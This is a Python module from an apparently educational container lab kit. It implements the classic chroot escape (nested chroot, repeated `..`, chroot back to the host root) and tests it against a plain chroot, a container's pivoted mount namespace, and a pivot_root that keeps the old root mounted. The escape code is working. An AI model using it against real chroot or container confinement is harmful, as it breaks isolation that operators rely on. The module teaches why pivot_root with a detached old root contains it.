"""The classic chroot escape, and what stops it.

A process confined by chroot(2) only has a different *root* for path lookups;
its mount namespace is still the host's, and `..` is only stopped at the
process's own root. A root process (CAP_SYS_CHROOT) therefore breaks out:

    mkdir("x"); chroot("x")          # new root below us: our cwd is now *outside* it
    chdir("..") many times           # nothing stops `..` any more: we climb to the real /
    chroot(".")                      # make the real / our root again

`attempt()` is that technique, and nothing else. Each runner below confines
a fresh helper process (`python -m labkit.escape ...`; the notebook kernel
never chroots or unshares itself) in one way, then calls the same
`attempt()`:

- `chroot`:               chroot(rootfs) — the escape succeeds;
- `container`:            join a running labkit container's mount namespace
                          (like `docker exec`/`runc exec`), whose init did
                          pivot_root and detached the old root — it fails;
- `pivot_root-keep-old`:  pivot_root without detaching the old root — the
                          host tree is still mounted, so it succeeds again.

The helper is Python, which the busybox rootfs does not contain: the
interpreter and every module it needs are loaded *before* it is confined, so
it needs no file from inside the rootfs.
"""
from __future__ import annotations

import dataclasses
import json
import os
import shutil
import subprocess
import sys as _sys
import uuid

from . import namespaces, rootfs
from . import sys as lsys
from .errors import LabkitError

CLIMB = 64  # more `..` than any real path is deep
METHODS = ("chroot", "container", "pivot_root-keep-old")


# --- the technique (runs inside the confined helper) ---------------------------------
def attempt(scratch: str) -> None:
    """The classic break-out: needs only root and CAP_SYS_CHROOT."""
    os.mkdir(scratch)
    os.chroot(scratch)  # our cwd is not below the new root: `..` will not stop at it
    for _ in range(CLIMB):
        os.chdir("..")
    os.chroot(".")  # wherever the climb ended is our root now
    os.chdir("/")


def view(hide: str = "") -> dict:
    """What `/` looks like to this process: its identity, entries and os-release."""
    st = os.stat("/")
    try:
        with open("/etc/os-release") as f:
            release = f.read()
    except OSError as err:
        release = f"<{err.strerror}>"
    entries = sorted(e for e in os.listdir("/") if e != hide)
    return {"root": [st.st_dev, st.st_ino], "entries": entries, "os_release": release}


# --- ways to confine the helper --------------------------------------------------------
def confine_chroot(root: str) -> None:
    os.chroot(root)
    os.chdir("/")


def confine_join(pid: int) -> None:
    """Enter the mount namespace of container process `pid`: root and cwd become its `/`."""
    namespaces.join(f"/proc/{pid}/ns/mnt", "mount")


def confine_pivot_keep_old(root: str) -> None:
    """pivot_root like a container init, but leave the old root mounted."""
    lsys.unshare(lsys.CLONE_NEWNS)
    rootfs.make_mounts_private()
    rootfs.bind_onto_itself(root)
    os.chdir(root)
    lsys.pivot_root(".", ".")  # the old root is now stacked on top of the new one
    os.chdir("/")  # (rootfs.pivot_into would umount2(".", MNT_DETACH) it here)


def _helper(argv: list[str]) -> int:
    """`python -m labkit.escape METHOD TARGET SCRATCH`: confine, report, attempt, report."""
    method, target, scratch = argv
    if method == "chroot":
        confine_chroot(target)
    elif method == "container":
        confine_join(int(target))
    elif method == "pivot_root-keep-old":
        confine_pivot_keep_old(target)
    else:
        raise SystemExit(f"unknown method {method!r}")
    before = view(hide=scratch)
    error = None
    try:
        attempt(scratch)
    except OSError as err:
        error = f"{type(err).__name__}: {err}"
    print(json.dumps({"before": before, "after": view(hide=scratch), "error": error}))
    return 0


# --- the caller's side (the notebook, a test) -------------------------------------------
@dataclasses.dataclass
class Escape:
    """What one escape attempt saw, compared with the host's `/`."""

    method: str
    before: list[str]   # entries of `/` once confined
    after: list[str]    # entries of `/` after the attempt
    escaped: bool       # `/` afterwards is the host's real root
    sees_host_os_release: bool
    error: str | None

    def __repr__(self) -> str:
        if self.escaped:
            return f"Escape({self.method}): ESCAPED, / is the host's real root again"
        return f"Escape({self.method}): contained, / is still the confined root"


def _helper_env() -> dict[str, str]:
    """Make sure the helper imports this same labkit, wherever it is installed."""
    env = dict(os.environ)
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    env["PYTHONPATH"] = here + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    return env


def run(method: str, target: str | int, cleanup_root: str, timeout: float = 30) -> Escape:
    """Confine a fresh helper by `method` and let it try the escape.

    `target` is the rootfs (chroot, pivot_root-keep-old) or the container's
    pid (container). `cleanup_root` is the host path of the confined root,
    where the attempt's scratch directory is removed afterwards.
    """
    if method not in METHODS:
        raise LabkitError(f"unknown escape method {method!r}", f"use one of: {', '.join(METHODS)}")
    scratch = f".labkit-escape-{uuid.uuid4().hex[:8]}"
    cmd = [_sys.executable, "-m", "labkit.escape", method, str(target), scratch]
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=_helper_env())
    finally:
        shutil.rmtree(os.path.join(cleanup_root, scratch), ignore_errors=True)
    if done.returncode != 0:
        raise LabkitError(f"the escape helper failed ({method}): {done.stderr.strip()[-400:]}",
                          "it needs root; check `labkit doctor`")
    report = json.loads(done.stdout)
    host = view()  # the caller's own `/`: the host's
    after = report["after"]
    return Escape(method=method, before=report["before"]["entries"], after=after["entries"],
                  escaped=after["root"] == host["root"],
                  sees_host_os_release=after["os_release"] == host["os_release"],
                  error=report["error"])


def from_chroot(root: str) -> Escape:
    """The escape against chroot(root)."""
    return run("chroot", root, root)


def from_container(container_id: str) -> Escape:
    """The escape from inside a running labkit container (joining its mount namespace)."""
    from . import runtime
    from .runtime.spec import Spec

    state = runtime.state(container_id)
    if state.status not in ("created", "running"):
        raise LabkitError(f"container {container_id!r} is {state.status}", "start it first")
    root = Spec.load(state.bundle).rootfs_path(state.bundle)
    return run("container", state.pid, root)


def from_pivot_root_keeping_old_root(root: str) -> Escape:
    """The escape against pivot_root when the old root stays mounted."""
    return run("pivot_root-keep-old", root, root)


if __name__ == "__main__":
    raise SystemExit(_helper(_sys.argv[1:]))
